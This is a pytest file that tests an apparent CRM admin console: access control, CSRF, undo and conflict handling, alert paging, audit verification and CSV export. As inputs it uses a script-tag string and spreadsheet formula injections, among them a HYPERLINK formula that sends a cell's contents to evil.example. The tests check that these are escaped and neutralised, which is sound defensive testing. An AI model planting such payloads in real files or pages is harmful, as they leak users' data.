"""Rooms, customers, conflicts, alerts and the audit in the console: what they show, what they do, and for whom."""

from __future__ import annotations

import csv
import html
import io
import os
import re
from dataclasses import replace

import pytest
from sqlalchemy import Connection

from channels.model import ImId, Roster, Sender
from crm.model import FieldValue, Record, RecordRef
from gateway.console import audit
from gateway.store import sql
from gateway.store.alerts import Alert
from gateway.store.auditing import AuditStore
from gateway.store.console import ConsoleStore
from gateway.store.ledger import Incoming
from identity.model import Person
from reconcile.chain import Fault
from reconcile.model import Actor, Source
from reconcile.token import Seen
from tests.gateway.http.test_console import Visitor
from tests.gateway.http.test_console_mentions import entered, seen
from tests.gateway.http.test_policies import ONE, TWO, disputed
from tests.gateway.http.world import HERO, World

ROOM = "web/r_partner"
HOSTILE = "<script>x</script>\u202e\x00*b*" + "😀" * 1000
MANY = 100_000 if os.environ.get("FLOATCARD_SOAK") == "1" else 2_000
PAGES = ("rooms", "rooms/one", "customers", "customers/one", "conflicts", "alerts", "audit")
FORMS = (
    *(
        "rooms/quiet",
        "rooms/bind",
        "rooms/budget",
        "customers/undo",
        "customers/take",
        "conflicts/settle",
        "conflicts/undo",
    ),
    *("conflicts/assign", "alerts/move", "audit/verify", "audit/export"),
)


async def room(world: World, key: str = "r_partner", *guests: str, shared: bool = False) -> None:
    """As the network would tell it."""
    names = ("u_liting", "u_wangmin", *guests)
    members = tuple(
        Sender(ImId("web", "demo", "user", name), f"name of {name}", "guest" if name in guests else "member")
        for name in names
    )
    roster = Roster(members, True, world.clock.now(), f"room {key}", "group", shared)
    await world.house.services.rooms.store.keep(f"web/{key}", roster)


async def edited(world: World, field: str, value: str, person: str = "p_liting") -> None:
    ledger = world.house.services.ledger
    state = await ledger.state(HERO, field)
    source, actor = Source("web", "Web card", "1.0"), Actor("person", person)
    heads = Seen("ok", state.heads if state is not None else ())
    once = f"once-{field}-{value}"
    await ledger.ingest(Incoming(HERO, field, "set", value, source, actor, once, heads, role_ok=True))


async def raised(world: World, count: int = 1, rule: str = "risk_high") -> list[str]:
    now, ids = world.clock.now(), [f"alert{at:03}" for at in range(count)]
    for at, id_ in enumerate(ids):
        await world.house.services.alerts.raise_(Alert(id_, rule, HERO, f"nothing{at}:1", now - at, trace="aa" * 5))
    return ids


async def page(visitor: Visitor, path: str, **form: str) -> str:
    status, told, _ = await (visitor.post(f"/console/{path}", form) if form else visitor.get(f"/console/{path}"))
    assert status == 200, told
    return seen(told)


def hidden(page: str, action: str, at: int = 0) -> dict[str, str]:
    """What the form of that action, the `at`th of them, would send."""
    forms = re.findall(rf'<form method="post" action="/console/{action}".*?</form>', page, re.S)
    found = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', forms[at])
    return {name: html.unescape(value) for name, value in found}


async def test_nobody_but_who_is_signed_in_sees_or_does_anything(world: World) -> None:
    async with Visitor(world) as visitor:
        for path in PAGES:
            assert (await visitor.get(f"/console/{path}"))[2].url.path == "/console"
        for path in FORMS:
            assert (await visitor.post(f"/console/{path}", {"csrf": "x"}))[0] == 403
        await visitor.enter()
        for path in FORMS:
            assert (await visitor.post(f"/console/{path}", {}))[0] == 403, "no csrf"


async def test_every_page_is_in_the_navigation_and_keeps_its_question_in_another_language(world: World) -> None:
    async with Visitor(world) as visitor:
        await entered(visitor)
        overview = (await visitor.get("/console"))[1]
        for path in ("rooms", "customers", "conflicts", "alerts", "audit", "policies", "mentions", "identities"):
            assert f'href="/console/{path}"' in overview
            told = (await visitor.get(f"/console/{path}"))[1]
            assert f'href="/console/{path}" aria-current="page"' in told
        one = (await visitor.get(f"/console/customers/one?ref={HERO}&set"))[1]
        assert 'href="?ref=local%3Aaccount%3Ahx-medical&amp;lang=zh-CN"' in one


async def test_an_auditor_and_a_manager_are_shown_the_pages_of_their_role_alone(world: World) -> None:
    people = world.house.services.people
    await people.put(Person("p_audit", "Auditor", frozenset({"auditor", "employee"})))
    await people.put(Person("p_boss", "Manager", frozenset({"manager"})))
    for who, seen_by, closed in (
        ("p_audit", ("rooms", "customers", "conflicts", "alerts", "audit", "policies"), ()),
        ("p_boss", ("customers", "conflicts", "alerts"), ("rooms", "audit", "identities", "policies")),
    ):
        async with Visitor(world) as visitor:
            link = await world.tokens.login_link(who)
            assert (await visitor.post("/console/login", {"link": link}))[0] == 200
            nav = (await visitor.get("/console/customers"))[1]
            for path in seen_by:
                assert f'href="/console/{path}"' in nav and (await visitor.get(f"/console/{path}"))[0] == 200
            for path in closed:
                assert f'href="/console/{path}"' not in nav and (await visitor.get(f"/console/{path}"))[0] == 403
            csrf = hidden((await visitor.get("/console"))[1], "logout")["csrf"]
            status = (await visitor.post("/console/audit/verify", {"csrf": csrf}))[0]
            assert status == (200 if who == "p_audit" else 403)
            assert (await visitor.post("/console/rooms/quiet", {"csrf": csrf, "room": ROOM}))[0] == 403


# -- rooms


async def test_a_room_says_what_is_hidden_and_because_of_whom_by_kind_and_never_by_name(world: World) -> None:
    await room(world, "r_partner", "u_guest")
    async with Visitor(world) as visitor:
        await entered(visitor)
        assert "1 from outside or unknown" in await page(visitor, "rooms")
        told = await page(visitor, f"rooms/one?room={ROOM}")
        assert "guests, others' people, and who is unknown 1 ·" in told, "as on the list of rooms"
        assert "hidden: never shown in a group" in told
        assert "hidden because of" in told and "✓ shown" in told
        assert "never shown in a group" in told
        assert "name of" not in told and "李婷" not in told.replace("李婷 Li Ting · Sign out", "")
        judged = await page(visitor, f"rooms/one?room={ROOM}&customer=华星医疗")
        assert "Judged for 华星医疗" in judged


async def test_who_is_presumed_to_read_along_is_told_and_counted_with_nobody(world: World) -> None:
    await room(world, "r_shared", shared=True)
    async with Visitor(world) as visitor:
        await entered(visitor)
        told = await page(visitor, "rooms/one?room=web/r_shared")
        assert "whoever else the other company has in it" in told and "who is unknown 1" not in told
        assert "hidden because of guests, others' people, and who is unknown (" not in told


async def test_who_is_gone_or_unplugged_or_silent_is_told(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    await world.house.services.rooms.store.join("gone/r1", Sender(ImId("gone", "", "user", "a"), "a", "member"))
    await room(world)
    async with Visitor(world) as visitor:
        await entered(visitor)
        assert "not in the configuration any more" in await page(visitor, "rooms/one?room=gone/r1")
        assert "There is no such room." in await page(visitor, "rooms/one?room=web/none")

        async def never(*_: object) -> object:
            raise TimeoutError

        monkeypatch.setattr("gateway.console.rooms.doctor.examine", never)
        assert "does not answer just now" in await page(visitor, f"rooms/one?room={ROOM}")


async def test_a_rooms_settings_are_set_and_taken_back(world: World) -> None:
    await room(world)
    s = world.house.services
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        sent = {"csrf": csrf, "room": ROOM}
        assert "about 华星医疗" in (
            await page(visitor, "rooms/bind", **sent, customer="华星医疗")
        ).lower() + await page(visitor, "rooms")
        assert (await s.mentioning.binding(ROOM)).bound == HERO
        await page(visitor, "rooms/bind", **sent, customer="")
        assert (await s.mentioning.binding(ROOM)).bound == ""
        assert "The room is quiet now." in await page(visitor, "rooms/quiet", **sent, **{"for": "4h"})
        assert (await s.rooms.store.state(ROOM)).quiet_until == pytest.approx(
            world.clock.now() + 4 * 3_600_000, abs=60_000
        )
        assert "Cards may float in the room again." in await page(visitor, "rooms/quiet", **sent, **{"for": ""})
        assert "3 cards an hour" in await page(visitor, "rooms/budget", **sent, cards="3")
        assert "(as configured)" in await page(visitor, "rooms/budget", **sent, cards="")
        for wrong in ("-1", "9999", "x", "３"):
            status, told, _ = await visitor.post("/console/rooms/budget", {**sent, "cards": wrong})
            assert status == 409 and "Write a number" in told
        status, told, _ = await visitor.post("/console/rooms/bind", {**sent, "customer": "nobody at all"})
        assert status == 409 and "No customer of that name" in told


# -- customers


async def test_a_customer_is_found_by_a_part_of_its_name_or_its_key(world: World) -> None:
    async with Visitor(world) as visitor:
        await entered(visitor)
        assert "华星医疗" in await page(visitor, "customers?q=星医")
        assert "华星医疗" in await page(visitor, f"customers?q={HERO}")
        assert "No customer you may see is called so." in await page(visitor, "customers?q=zzzzzz")
        assert "There is no such customer." in await page(visitor, "customers/one?ref=local:account:none")


async def test_one_record_says_where_each_value_is_from_and_how_it_came(world: World) -> None:
    await edited(world, "phone", ONE)
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        told = await page(visitor, f"customers/one?ref={HERO}&field=phone")
        assert ONE in told and "[Web card 1.0]" in told and "How Phone came to be so" in told
        assert re.search(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3} \[Web card 1\.0\] set Phone to \+86 512", told)
        assert "[CRM]" in told and "rooms it is shown in: 0" in told
        raw = (await visitor.get(f"/console/customers/one?ref={HERO}"))[1]
        sent = hidden(raw, "customers/undo")
        assert "It is taken back." in await page(visitor, "customers/undo", **sent)
        state = await world.house.services.ledger.state(HERO, "phone")
        assert state is not None and state.value != ONE and state.actor == "p_zhaolei" and state.system == "console"
        status, told, _ = await visitor.post("/console/customers/undo", sent)
        assert status == 409 and "undone already" in told
        forged = {**sent, "data": sent["data"][:-2] + "xx"}
        assert (await visitor.post("/console/customers/undo", forged))[0] == 403
        assert (await visitor.post("/console/customers/undo", {**sent, "csrf": "0" * 64}))[0] == 403
        assert csrf


async def test_an_undo_is_refused_when_somebody_changed_it_since(world: World) -> None:
    await edited(world, "phone", ONE)
    async with Visitor(world) as visitor:
        await entered(visitor)
        sent = hidden((await visitor.get(f"/console/customers/one?ref={HERO}"))[1], "customers/undo")
        await edited(world, "phone", TWO)
        status, told, _ = await visitor.post("/console/customers/undo", sent)
        assert status == 409 and "Somebody has changed it since." in told
    state = await world.house.services.ledger.state(HERO, "phone")
    assert state is not None and state.value == TWO


async def test_a_long_past_is_told_a_page_at_a_time(world: World) -> None:
    for at in range(25):
        await edited(world, "phone", f"+86 512 1111 {at:04}")
    async with Visitor(world) as visitor:
        await entered(visitor)
        raw = (await visitor.get(f"/console/customers/one?ref={HERO}&field=phone"))[1]
        assert "1111 0024" in raw and "1111 0001" not in raw
        earlier = re.search(r'href="([^"]+before=\d+)#past"', raw)
        assert earlier is not None
        assert "1111 0001" in (await visitor.get(html.unescape(earlier[1])))[1]


async def test_values_follow_the_readers_own_rights(world: World) -> None:
    """An admin whose rights end at what colleagues see: the values are absent everywhere, the past and the CSV too."""
    s, secret = world.house.services, "+86 512 7777 7777"
    await edited(world, "phone", secret)
    known = s.people.person("p_zhaolei")
    assert known is not None
    await s.people.put(replace(known, external=True))
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        for path in (f"customers?q={HERO}", f"audit?record={HERO}", "audit", "conflicts", "alerts"):
            told = await page(visitor, path)
            assert secret not in told and "华星医疗" not in told
        assert "There is no such customer." in await page(visitor, f"customers/one?ref={HERO}&field=phone")
        taken = (await visitor.post("/console/audit/export", {"csrf": csrf, "record": HERO}))[1]
        assert "7777" not in taken and "华星" not in taken and HERO not in taken


# -- conflicts


async def test_the_queue_shows_three_columns_and_one_side_is_taken_and_undone(world: World) -> None:
    await disputed(world)
    s = world.house.services
    async with Visitor(world) as visitor:
        await entered(visitor)
        told = await page(visitor, "conflicts")
        assert "Before" in told and ONE in told and TWO in told and "It can be undone." in told
        raw = (await visitor.get("/console/conflicts"))[1]
        first = hidden(raw, "conflicts/settle")
        other = hidden(raw, "conflicts/settle", 1)
        assert "It is settled." in await page(visitor, "conflicts/settle", **first)
        state = await s.ledger.state(HERO, "phone")
        assert state is not None and state.conflict is None and state.value in (ONE, TWO)
        status, told, _ = await visitor.post("/console/conflicts/settle", other)
        assert status == 409 and "This is settled already." in told
        assert await s.ledger.conflicts() == []
        settled = (await visitor.get("/console/conflicts?which=settled"))[1]
        assert "赵磊" in settled and str(state.value) in settled
        told = await page(visitor, "conflicts/undo", **hidden(settled, "conflicts/undo"))
        assert "The conflict is open again." in told
        again = await page(visitor, "conflicts")
        assert ONE in again and TWO in again


async def test_a_page_that_is_old_settles_nothing_it_did_not_show(world: World) -> None:
    await disputed(world)
    s = world.house.services
    async with Visitor(world) as visitor:
        await entered(visitor)
        sent = hidden((await visitor.get("/console/conflicts"))[1], "conflicts/settle")
        third, actor = Source("web", "Web card", "1.0"), Actor("person", "p_chenwei")
        await s.ledger.ingest(Incoming(HERO, "phone", "set", "+86 512 3333 3333", third, actor, "third", Seen("ok")))
        assert "a newer value that this page did not show" in await page(visitor, "conflicts/settle", **sent)
    state = await s.ledger.state(HERO, "phone")
    assert state is not None and state.conflict is not None


async def test_a_proposal_taken_on_an_old_page_is_not_called_settled(world: World) -> None:
    s = world.house.services
    await edited(world, "phone", ONE)
    source, actor = Source("web", "Web card", "1.0"), Actor("person", "p_chenwei")
    given = Incoming(HERO, "phone", "proposal", TWO, source, actor, "asked", Seen("ok"), binding=False)
    await s.ledger.ingest(given)
    async with Visitor(world) as visitor:
        await entered(visitor)
        raw = (await visitor.get(f"/console/customers/one?ref={HERO}"))[1]
        sent = hidden(raw[raw.index(TWO) :], "customers/take")
        await edited(world, "phone", "+86 512 3333 3333", "p_wangmin")
        told = await page(visitor, "customers/take", **sent)
        assert "a newer value that this page did not show" in told and "It is settled." not in told
    state = await s.ledger.state(HERO, "phone")
    assert state is not None and state.conflict is not None


async def test_somebody_is_asked_and_nobody_any_more(world: World) -> None:
    await disputed(world)
    [case] = await world.house.services.ledger.conflicts()
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        sent = {"csrf": csrf, "conflict": case.id, "which": "open"}
        assert "asked of me" in (await page(visitor, "conflicts")).lower()
        assert "None of these; 1 are open" in await page(visitor, "conflicts?which=mine")
        told = await page(visitor, "conflicts/assign", **sent, person="p_zhaolei")
        assert "somebody is asked to look at: 1." in told and "asked: 赵磊" in told
        assert ONE in await page(visitor, "conflicts?which=mine")
        assert ONE not in await page(visitor, "conflicts?which=nobody")
        assert "There is no such person" in await page(visitor, "conflicts/assign", **sent, person="p_none")
        assert "Nothing was chosen." in await page(visitor, "conflicts/assign", csrf=csrf, person="p_zhaolei")
        assert "nobody is asked" in await page(visitor, "conflicts/assign", **sent, person="")
        assert ONE in await page(visitor, "conflicts?which=nobody")


# -- alerts


async def test_alerts_are_filtered_and_moved_several_at_once_and_back(world: World) -> None:
    ids = await raised(world, 3)
    s = world.house.services
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        sent: list[tuple[str, str]] = [("csrf", csrf), ("alert", ids[0]), ("alert", ids[1])]
        _, told, _ = await visitor.post("/console/alerts/move", [*sent, ("to", "acknowledge")])
        assert "Acknowledged: 2." in told
        _, told, _ = await visitor.post("/console/alerts/move", [*sent, ("to", "acknowledge")])
        assert "Nothing was changed" in told
        assert "Open 1" in await page(visitor, "alerts") and "Acknowledged 2" in await page(visitor, "alerts")
        _, told, _ = await visitor.post("/console/alerts/move", [("csrf", csrf), ("alert", ids[2]), ("to", "snooze")])
        assert "Snoozed: 1." in told and "comes back" in told
        _, told, _ = await visitor.post("/console/alerts/move", [*sent, ("alert", ids[2]), ("to", "reopen")])
        assert "Open again: 3." in told
        assert [each.state for each in await s.alerts.about(HERO)] == ["open"] * 3
        assert "No alert of that kind." in await page(visitor, "alerts?rule=conflict_open")
        assert "Nothing was chosen." in await page(visitor, "alerts/move", csrf=csrf, to="snooze")
        assert "Nothing was chosen." in await page(visitor, "alerts/move", csrf=csrf, alert=ids[0], to="explode")


async def test_many_alerts_are_told_a_page_at_a_time(world: World) -> None:
    await raised(world, 60)
    async with Visitor(world) as visitor:
        await entered(visitor)
        path, found = "/console/alerts?which=open", list[str]()
        for _ in range(3):
            raw = (await visitor.get(path))[1]
            found += re.findall(r'name="alert" value="(\w+)"', raw)
            on = re.search(r'href="(/console/alerts[^"]+after=[^"]+)"', raw)
            path = html.unescape(on[1]) if on else ""
        assert len(found) == len(set(found)) == 60 and path == ""


# -- the audit


async def test_the_audit_is_found_by_code_person_and_customer(world: World) -> None:
    await disputed(world)
    await edited(world, "tier", "VIP")
    state = await world.house.services.ledger.state(HERO, "phone")
    assert state is not None
    async with Visitor(world) as visitor:
        await entered(visitor)
        told = await page(visitor, f"audit?q={state.decision.lower().replace('-', '')}")
        assert f"Decision {state.decision}" in told and ONE in told and TWO in told
        assert ONE in await page(visitor, "audit?q=李婷") and TWO not in await page(visitor, "audit?person=p_liting")
        assert TWO in await page(visitor, "audit?q=华星医疗")
        assert "The latest decisions" in await page(visitor, "audit")
        assert "Nothing of that code or name" in await page(visitor, "audit?q=FFFF-FFFF-FFFF-FFFF")
        assert "Whose do you mean?" in await page(visitor, "audit?q=e")


async def test_the_latest_decisions_are_told_once_each_however_many_chains(world: World) -> None:
    s = world.house.services
    store, after, found = ConsoleStore(s.store), "", list[str]()
    total = await store.audit_count()
    for _ in range(total):
        rows, after = await audit.page(store, "", "", after, 7)
        found += [row.decision for row in rows]
        if not after:
            break
    assert len(found) == len(set(found)) == total > 50


async def test_the_chain_is_verified_and_a_fault_is_told(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        assert "decisions: none altered, missing or reordered." in await page(visitor, "audit/verify", csrf=csrf)

        async def broken() -> Fault:
            return Fault(3, 7, "its <b>value</b> was altered")

        monkeypatch.setattr(world.house.services.ledger, "verify", broken)
        status, told, _ = await visitor.post("/console/audit/verify", {"csrf": csrf})
        assert status == 200 and "Chain 3, decision 7: its &lt;b&gt;value" in told


def test_no_cell_is_a_formula() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "＠x", "\x00"):
        assert not audit.safe(bad).lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "＠", "\x00"))
    for good in ("华星医疗", "", "a=b", "1-2", "'"):
        assert audit.safe(good) == good


async def test_what_is_exported_is_safe_to_open_and_holds_what_the_page_does(world: World) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await edited(world, "address", evil)
    await edited(world, "address", 'a "quoted", value\nof two lines')
    async with Visitor(world) as visitor:
        csrf = await entered(visitor)
        status, told, raw = await visitor.post("/console/audit/export", {"csrf": csrf, "record": HERO})
        assert status == 200 and raw.headers["Content-Type"].startswith("text/csv")
        assert "attachment" in raw.headers["Content-Disposition"]
    [noted] = [
        each for each in await AuditStore(world.house.services.store, world.clock).latest() if each.what == "exported"
    ]
    assert noted.by == "p_zhaolei"
    rows = list(csv.DictReader(io.StringIO(told.lstrip("\ufeff"), newline="")))
    values = [row["value"] for row in rows]
    assert f"'{evil}" in values and 'a "quoted", value\nof two lines' in values
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert {row["record"] for row in rows} == {HERO}


# -- hostile names, very many rows


async def test_hostile_names_are_inert_on_every_page(world: World) -> None:
    s = world.house.services
    evil = replace(await hero(world), title=HOSTILE, names=(HOSTILE,))
    await s.records.put([evil])
    evil_room = Roster((Sender(ImId("web", "demo", "user", "e"), HOSTILE, "member"),), True, world.clock.now(), HOSTILE)
    await s.rooms.store.keep("web/evil", evil_room)
    await s.people.put(Person("p_liting", HOSTILE, frozenset({"rep"}), team="east"))
    await disputed(world)
    await raised(world)
    [case] = await s.ledger.conflicts()
    async with Visitor(world) as visitor:
        await entered(visitor)
        paths = (
            *("rooms", "rooms/one?room=web/evil&customer=<script>x", "customers?q=<script>x", "conflicts", "alerts"),
            *(f"customers/one?ref={HERO}&field=phone", "audit", f"audit?record={HERO}", f"audit?q={case.id}"),
            *("audit?person=p_liting", "audit?q=<script>x", "customers?after=<script>x", "alerts?after=1.<script>x"),
        )
        for path in paths:
            _, told, answer = await visitor.get(f"/console/{path}")
            assert answer.status in (200, 409) and "<script" not in told and "😀" * 500 not in told, path
            assert "script-src" not in answer.headers["Content-Security-Policy"]


async def hero(world: World) -> Record:
    found = await world.house.services.records.mirrored(HERO)
    assert found is not None
    return found


async def test_a_broken_cursor_is_the_beginning(world: World) -> None:
    await raised(world)
    paths = ("alerts", "conflicts", "conflicts?which=settled", "audit", "rooms", "customers")
    async with Visitor(world) as visitor:
        await entered(visitor)
        for query in ("a.b", "9" * 40 + ".x", "1.", "٣.x", "-1.x", "0.1-x.2-" * 200):
            for path in (*paths, f"customers/one?ref={HERO}&field=phone&before={query}"):
                mark = "&" if "?" in path else "?"
                assert (await visitor.get(f"/console/{path}{mark}after={query}"))[0] == 200, (path, query)


async def test_a_page_of_very_many_customers_asks_for_one_page_of_rows(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Counted: how many records are opened for a page, and how SQLite goes about each statement."""
    s = world.house.services
    kinds = [RecordRef("local", "account", f"many{at:05}") for at in range(MANY)]
    await s.records.put([_many(ref) for ref in kinds])
    opened, plans, plain = list[str](), set[str](), sql.ask
    real = s.records.standing

    async def standing(key: str) -> object:
        opened.append(key)
        return await real(key)

    def ask(connection: Connection, text: str, parameters: object = ()) -> object:
        if text.startswith("SELECT"):
            rows = plain(connection, f"EXPLAIN QUERY PLAN {text}", parameters)  # type: ignore[arg-type]
            plans.update(f"{row[3]} <- {text[:160]}" for row in rows)
        return plain(connection, text, parameters)  # type: ignore[arg-type]

    monkeypatch.setattr(s.records, "standing", standing)
    monkeypatch.setattr(sql, "ask", ask)
    async with Visitor(world) as visitor:
        await entered(visitor)
        for path in ("customers", "customers?after=local:account:many00500", "customers?q=Many"):
            opened.clear()
            assert "Next page" in await page(visitor, path)
            assert len(opened) == 25, path
        opened.clear()
        for path in (f"audit?record={HERO}", "audit?person=p_liting", "audit", "alerts", "conflicts", "rooms"):
            await page(visitor, path)
        assert len(set(opened)) <= 120
    scans = [
        each for each in plans if each.startswith(("SCAN e ", "SCAN d ", "SCAN mirror", "SCAN edit", "SCAN decision"))
    ]
    assert [each for each in scans if "USING COVERING INDEX" not in each] == []
    assert any("edit_person" in each for each in plans) and any("alert_state" in each for each in plans)


def _many(ref: RecordRef) -> Record:
    return Record(ref, f"Many {ref.id}", "", 1, {"tier": FieldValue("VIP")}, {}, names=(f"Many {ref.id}",))
